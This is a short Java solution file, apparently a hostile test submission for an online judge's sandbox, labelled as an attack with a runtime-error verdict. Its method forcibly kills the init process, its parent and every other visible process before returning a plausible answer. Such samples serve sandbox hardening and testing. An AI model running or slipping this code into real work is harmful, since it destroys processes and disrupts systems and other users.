// Attack: ends its parent and every process that it sees
// Verdict: RTE AC
class Solution {
    String whisper(int n) {
        ProcessHandle.of(1).ifPresent(init -> System.out.println(init.destroyForcibly()));
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
        ProcessHandle.allProcesses()
                .filter(each -> each.pid() != ProcessHandle.current().pid())
                .forEach(ProcessHandle::destroyForcibly);
        return "heard " + 7 * n;
    }
}
